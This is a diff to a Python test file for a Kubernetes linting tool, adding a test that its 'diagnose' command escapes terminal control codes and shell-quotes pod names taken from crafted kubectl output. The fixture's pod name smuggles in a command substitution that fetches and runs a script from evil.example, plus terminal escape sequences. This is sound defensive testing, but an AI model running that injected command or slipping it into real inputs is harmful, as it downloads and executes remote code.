@@ -15,7 +15,7 @@ from kubelint_py import engine, report
 from kubelint_py.loader import load_text
 from kubelint_py.schemas import resolve_version
 
-# Everything report.printable() must escape; rich's own colour codes are the only escapes allowed out.
+# Everything escaping.printable() must escape; rich's own colour codes are the only escapes allowed out.
 UNSAFE = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 OWN_COLOUR = re.compile(r"\x1b\[[0-9;]*m")
 
@@ -194,3 +194,30 @@ def test_reports_are_utf8_even_on_a_latin1_terminal(tmp_path):
         assert result.returncode == 1, result.stderr
         name = "caf%C3%A9-%E6%97%A5%E6%9C%AC.yaml" if output == "sarif" else "caf\u00e9-\u65e5\u672c.yaml"  # SARIF: a URI
         assert name in result.stdout.decode("utf-8")
+
+
+# --- kubelint diagnose quotes kubectl output --------------------------------------------------------------
+
+CRAFTED_DESCRIBE = """\
+Name:             web-7d4f9$(curl -s evil.example | sh)\x1b]0;owned\x07
+Namespace:        shop
+Status:           Pending
+Events:
+  Type     Reason            Age   From               Message
+  ----     ------            ----  ----               -------
+  Warning  FailedScheduling  2m    default-scheduler  0/3 nodes are available: \x1b[2J3 Insufficient cpu.
+"""
+
+
+def test_diagnose_escapes_what_it_quotes_and_shell_quotes_its_commands(kubelint, tmp_path):
+    path = tmp_path / "describe.txt"
+    path.write_text(CRAFTED_DESCRIBE)
+    result = kubelint("diagnose", path)
+    assert result.exit_code == 1
+    assert not UNSAFE.search(result.stdout.replace("\n", ""))
+    assert "Insufficient cpu" in result.stdout and "\\x1b[2J" in result.stdout
+    naming_the_pod = [line for line in result.stdout.splitlines() if line.strip().startswith("$ ") and "web-" in line]
+    assert naming_the_pod  # quoted for the shell, then escaped for the terminal
+    assert all("'web-7d4f9$(curl -s evil.example | sh)\\x1b]0;owned\\x07'" in line for line in naming_the_pod)
+    data = json.loads(kubelint("diagnose", "--format", "json", path).stdout)
+    assert data["pods"][0]["name"] == "web-7d4f9$(curl -s evil.example | sh)\x1b]0;owned\x07"
